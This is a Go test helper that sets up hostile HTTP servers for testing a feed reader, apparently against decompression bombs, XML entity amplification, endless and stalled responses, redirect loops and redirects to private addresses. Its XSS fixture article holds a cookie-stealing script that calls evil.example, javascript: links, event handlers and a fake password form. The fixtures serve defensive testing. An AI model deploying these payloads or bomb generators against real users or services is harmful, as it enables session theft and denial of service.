package main

// The misbehaving servers the hostile tests point sources at, the
// documents they serve, and the good server every test configuration
// also fetches.

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"fmt"
	"io"
	stdlog "log"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// hostile is a set of misbehaving servers. srv hosts every hostile path;
// canary is another private origin (another loopback port) that sources
// must not reach unless private networks are allowed; tls is a server
// whose certificate nobody trusts.
type hostile struct {
	srv, canary, tls *httptest.Server

	// manyItems and hugeTitles build their documents once; the cases call
	// them before fetching so that building does not eat the fetch timeout
	// (it is slow under the race detector).
	manyItems, hugeTitles func() []byte

	mu   sync.Mutex
	hits map[string]int // "hostile /path" or "canary /path" -> requests seen
}

func (h *hostile) hit(server string, r *http.Request) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.hits[server+" "+r.URL.Path]++
}

// hitCount returns how many requests server ("hostile" or "canary") saw for
// path, or for every path when path is "".
func (h *hostile) hitCount(server, path string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	n := 0
	for k, v := range h.hits {
		if k == server+" "+path || path == "" && strings.HasPrefix(k, server+" ") {
			n += v
		}
	}
	return n
}

func (h *hostile) url(path string) string { return h.srv.URL + path }

// quietServer returns an unstarted server whose own error log (TLS
// handshake failures, hijacked connections) is discarded.
func quietServer(handler http.Handler) *httptest.Server {
	srv := httptest.NewUnstartedServer(handler)
	srv.Config.ErrorLog = newDiscardLogger()
	return srv
}

func newDiscardLogger() *stdlog.Logger { return stdlog.New(io.Discard, "", 0) }

func newHostile(t *testing.T) *hostile {
	t.Helper()
	h := &hostile{hits: map[string]int{}, manyItems: sync.OnceValue(manyItemsDoc), hugeTitles: sync.OnceValue(hugeTitlesDoc)}

	canary := http.NewServeMux()
	canary.HandleFunc("/feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Canary", `<item><title>Canary story</title><link>http://example.com/canary/1</link><description>Reached the canary.</description></item>`))
	})
	canary.HandleFunc("/article", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, canaryArticle)
	})
	h.canary = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.hit("canary", r)
		canary.ServeHTTP(w, r)
	}))
	h.canary.Start()
	t.Cleanup(h.canary.Close)

	h.tls = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("TLS", `<item><title>Over TLS</title><link>http://example.com/tls/1</link></item>`))
	}))
	h.tls.StartTLS()
	t.Cleanup(h.tls.Close)

	mux := http.NewServeMux()
	mux.HandleFunc("/slow-body", slowBody)
	mux.HandleFunc("/slow-headers", func(w http.ResponseWriter, r *http.Request) {
		// Never answer: wait for the client to give up.
		select {
		case <-r.Context().Done():
		case <-time.After(time.Minute):
		}
	})
	mux.HandleFunc("/endless", endlessBody)
	mux.HandleFunc("/gzip-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "gzip", func(w io.Writer) flushWriter {
			zw, _ := gzip.NewWriterLevel(w, gzip.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/deflate-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "deflate", func(w io.Writer) flushWriter {
			zw, _ := zlib.NewWriterLevel(w, zlib.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/raw-deflate-bomb", func(w http.ResponseWriter, r *http.Request) {
		bomb(w, "deflate", func(w io.Writer) flushWriter {
			zw, _ := flate.NewWriter(w, flate.BestCompression)
			return zw
		})
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/loop", http.StatusFound)
	})
	mux.HandleFunc("/hops/{n}", func(w http.ResponseWriter, r *http.Request) {
		n, _ := strconv.Atoi(r.PathValue("n"))
		if n > 0 {
			http.Redirect(w, r, fmt.Sprintf("/hops/%d", n-1), http.StatusMovedPermanently)
			return
		}
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Hops", `<item><title>After the hops</title><link>http://example.com/hops/1</link></item>`))
	})
	mux.HandleFunc("/status/{code}", func(w http.ResponseWriter, r *http.Request) {
		code, _ := strconv.Atoi(r.PathValue("code"))
		if ra := r.URL.Query().Get("retry-after"); ra != "" {
			w.Header().Set("Retry-After", ra)
		}
		http.Error(w, http.StatusText(code), code)
	})
	mux.HandleFunc("/retry-date", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", time.Now().Add(2*time.Hour).UTC().Format(http.TimeFormat))
		http.Error(w, "down for maintenance", http.StatusServiceUnavailable)
	})
	mux.HandleFunc("/reset", resetMidBody)
	mux.HandleFunc("/short-body", shortBody)
	mux.HandleFunc("/discover-private", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="%s/feed"></head><body>Our feed lives elsewhere.</body></html>`, h.canary.URL)
	})
	mux.HandleFunc("/discover-self", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/discover-self"></head><body>I am my own feed.</body></html>`)
	})
	mux.HandleFunc("/fixture/{name}", func(w http.ResponseWriter, r *http.Request) {
		name := filepath.Base(r.PathValue("name"))
		b, err := os.ReadFile(filepath.Join("testdata", "hostile", name))
		if err != nil {
			http.NotFound(w, r)
			return
		}
		b = bytes.ReplaceAll(b, []byte("{{CANARY}}"), []byte(h.canary.URL))
		switch {
		case strings.HasSuffix(name, ".html"):
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
		case strings.HasSuffix(name, ".atom"):
			w.Header().Set("Content-Type", "application/atom+xml")
		case strings.HasSuffix(name, ".json"):
			w.Header().Set("Content-Type", "application/feed+json")
		case name == "wrong-charset.xml":
			// The server agrees with the document's wrong declaration.
			w.Header().Set("Content-Type", "application/rss+xml; charset=ISO-8859-1")
		default:
			w.Header().Set("Content-Type", "application/rss+xml")
		}
		w.Write(b)
	})
	mux.HandleFunc("/binary", func(w http.ResponseWriter, r *http.Request) {
		// A server that says "feed" and sends an image-like blob.
		w.Header().Set("Content-Type", "application/rss+xml")
		rng := rand.New(rand.NewChaCha8([32]byte{1, 2, 3}))
		b := make([]byte, 256<<10)
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		copy(b, "\x89PNG\r\n\x1a\n")
		w.Write(b)
	})
	mux.HandleFunc("/many-items", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(h.manyItems())
	})
	mux.HandleFunc("/huge-titles", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(h.hugeTitles())
	})
	mux.HandleFunc("/quadratic", func(w http.ResponseWriter, r *http.Request) {
		// Quadratic blowup: one 64 KiB entity referenced 20,000 times
		// would expand to 1.3 GB.
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(entityDoc("Quadratic blowup", "http://example.com/quadratic/1", 64<<10, 20000))
	})
	mux.HandleFunc("/entity-amplification", func(w http.ResponseWriter, r *http.Request) {
		// 450 KB: a 256-byte entity, short enough to be expanded,
		// referenced 150,000 times would make 38 MB of text.
		w.Header().Set("Content-Type", "application/rss+xml")
		w.Write(entityDoc("Entity amplification", "http://example.com/entities/1", 256, 150000))
	})
	mux.HandleFunc("/to-canary", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, h.canary.URL+"/feed", http.StatusFound)
	})
	mux.HandleFunc("/fulltext-feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Full text", `<item><title>Read more elsewhere</title><link>`+h.canary.URL+`/article</link><guid>urn:fulltext:1</guid><description>Teaser only.</description></item>`))
	})
	mux.HandleFunc("/xss-fulltext-feed", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		io.WriteString(w, rssDoc("Hostile pages", `<item><title>Hostile page</title><link>`+h.srv.URL+`/xss-article</link><guid>urn:xss-page:1</guid><description>Teaser.</description></item>`))
	})
	mux.HandleFunc("/xss-article", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, hostileArticle)
	})
	h.srv = quietServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.hit("hostile", r)
		mux.ServeHTTP(w, r)
	}))
	h.srv.Start()
	t.Cleanup(h.srv.Close)
	return h
}

// entityDoc is an RSS document of one item titled title whose description
// references refs times an entity of size "a"s declared in its DOCTYPE.
func entityDoc(title, link string, size, refs int) []byte {
	var b bytes.Buffer
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n")
	b.WriteString(`<!DOCTYPE rss [<!ENTITY a "` + strings.Repeat("a", size) + `">]>` + "\n")
	b.WriteString(`<rss version="2.0"><channel><title>` + title + `</title><link>http://example.com/</link>`)
	b.WriteString(`<item><title>` + title + `</title><link>` + link + `</link><description>`)
	b.WriteString(strings.Repeat("&a;", refs))
	b.WriteString(`</description></item></channel></rss>`)
	return b.Bytes()
}

// manyItemsDoc is an RSS document of 50,000 items, about 7 MB.
func manyItemsDoc() []byte {
	b := make([]byte, 0, 8<<20)
	for i := range 50000 {
		n := strconv.Itoa(i)
		b = append(b, "<item><title>Item "+n+"</title><link>http://example.com/many/"+n+"</link><guid>urn:many:"+n+
			"</guid><description>Item number "+n+".</description></item>\n"...)
	}
	return []byte(rssDoc("Fifty thousand items", string(b)))
}

// hugeTitlesDoc is an RSS document of three items with 1 MiB titles.
func hugeTitlesDoc() []byte {
	var b strings.Builder
	for i := range 3 {
		fmt.Fprintf(&b, "<item><title>Huge title %d %s</title><link>http://example.com/huge/%d</link><description>Short body.</description></item>\n",
			i, strings.Repeat("lorem ipsum ", (1<<20)/12), i)
	}
	return []byte(rssDoc("Huge titles", b.String()))
}

// rssDoc wraps items in an RSS 2.0 document.
func rssDoc(title, items string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>` + "\n" +
		`<rss version="2.0"><channel><title>` + title + `</title><link>http://example.com/</link><description>` + title + `</description>` + "\n" +
		items + "\n</channel></rss>\n"
}

const canaryArticle = `<!DOCTYPE html><html><head><title>Canary article</title></head><body>
<article><h1>Canary article</h1>
<p>This page lives on a private address that only an operator who allowed private networks may fetch. Its text is long enough to be extracted as an article body by the readability pass.</p>
<p>A second paragraph adds more words, so that the extractor sees a real article rather than a stub: sentences, commas, and enough characters to score well.</p>
<p>A third paragraph closes the story with yet more prose about nothing in particular, written only to be found.</p>
</article></body></html>`

// hostileArticle is an article page full of markup that must not be
// republished by full-text extraction.
const hostileArticle = `<!DOCTYPE html><html><head><title>Hostile page</title>
<script>alert('head')</script><style>p{background:url(javascript:alert(0))}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert(2)"><article>
<h1>Hostile page</h1>
<p>The hostile article body starts here, with enough prose to be taken for an article by the extractor, sentence after sentence.</p>
<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>
<p onmouseover="alert(3)">A second paragraph of real text, with <a href="javascript:alert(4)">a script link</a> and <a href="https://example.com/fine">a fine link</a> in the middle of it.</p>
<iframe src="https://evil.example/ad" width="300" height="250"></iframe>
<img src="https://example.com/photo.jpg" onerror="alert(5)" alt="A real photo" width="640" height="480">
<img src="https://tracker.example/page.gif" width="1" height="1">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<form action="https://evil.example/login"><input type="password" name="p"><button>Log in</button></form>
<p style="width: expression(alert(6))">A third paragraph closes the article body with more words for the extractor to keep.</p>
<svg><script>alert(7)</script></svg>
</article></body></html>`

// slowBody sends a feed one byte a second.
func slowBody(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	w.WriteHeader(http.StatusOK)
	rc := http.NewResponseController(w)
	doc := rssDoc("Slow", `<item><title>Slow</title></item>`)
	for i := 0; i < len(doc) && i < 60; i++ {
		if _, err := w.Write([]byte{doc[i]}); err != nil {
			return
		}
		if rc.Flush() != nil {
			return
		}
		select {
		case <-r.Context().Done():
			return
		case <-time.After(time.Second):
		}
	}
}

// endlessBody streams items until the client hangs up (at most 4 GiB).
func endlessBody(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	io.WriteString(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>Endless</title>`)
	chunk := []byte(strings.Repeat("<item><title>Again</title><description>and again</description></item>\n", 512))
	for written := 0; written < 4<<30; written += len(chunk) {
		if _, err := w.Write(chunk); err != nil {
			return
		}
	}
}

// flushWriter is a compressor that can flush a self-contained block.
type flushWriter interface {
	io.Writer
	Flush() error
}

// bomb streams a compressed body that inflates to 4 GiB of whitespace,
// about 1000:1 on the wire, until the client hangs up. Only the head and one
// 64 KiB chunk are compressed, per request: once the compressor's window is
// all spaces, 64 KiB more spaces compress to self-contained blocks that
// decode to the same bytes wherever they are repeated. No trailer is sent:
// no client should ever get that far.
func bomb(w http.ResponseWriter, encoding string, newWriter func(io.Writer) flushWriter) {
	var buf bytes.Buffer
	zw := newWriter(&buf)
	io.WriteString(zw, `<?xml version="1.0"?><rss version="2.0"><channel><title>Bomb`)
	spaces := bytes.Repeat([]byte{' '}, 64<<10)
	zw.Write(spaces)
	zw.Flush()
	head := bytes.Clone(buf.Bytes())
	buf.Reset()
	zw.Write(spaces)
	zw.Flush()
	chunk := buf.Bytes()

	w.Header().Set("Content-Type", "application/rss+xml")
	w.Header().Set("Content-Encoding", encoding)
	w.WriteHeader(http.StatusOK)
	if _, err := w.Write(head); err != nil {
		return
	}
	for range 4 << 30 / len(spaces) {
		if _, err := w.Write(chunk); err != nil {
			return
		}
	}
}

// resetMidBody promises 100,000 bytes, sends a few, and resets the
// connection.
func resetMidBody(w http.ResponseWriter, r *http.Request) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	buf.WriteString("HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n")
	buf.WriteString(`<?xml version="1.0"?><rss version="2.0"><channel><title>Reset</title><item><title>Cut sh`)
	buf.Flush()
	if tc, ok := conn.(*net.TCPConn); ok {
		tc.SetLinger(0) // close with RST, not FIN
	}
	conn.Close()
}

// shortBody promises 100,000 bytes, sends a small feed and closes the
// connection cleanly.
func shortBody(w http.ResponseWriter, r *http.Request) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	buf.WriteString("HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n")
	buf.WriteString(rssDoc("Short", `<item><title>Short</title><link>http://example.com/short/1</link></item>`))
	buf.Flush()
	conn.Close()
}

// goodServer serves a healthy Atom feed of two stories titled
// "Good LABEL story one" and "Good LABEL story two".
func goodServer(t *testing.T, label string) string {
	t.Helper()
	doc := fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Good %[1]s</title><id>urn:good:%[1]s</id><updated>2026-01-02T00:00:00Z</updated>
<entry><title>Good %[1]s story one</title><id>urn:good:%[1]s:1</id><link href="/%[1]s/1"/><updated>2026-01-02T00:00:00Z</updated><author><name>Ann</name></author><summary>First good story.</summary></entry>
<entry><title>Good %[1]s story two</title><id>urn:good:%[1]s:2</id><link href="/%[1]s/2"/><updated>2026-01-01T00:00:00Z</updated><author><name>Bob</name></author><summary>Second good story.</summary></entry>
</feed>`, label)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/atom+xml")
		io.WriteString(w, doc)
	}))
	t.Cleanup(srv.Close)
	return srv.URL + "/feed.atom"
}

func goodTitles(label string) []string {
	return []string{"Good " + label + " story one", "Good " + label + " story two"}
}
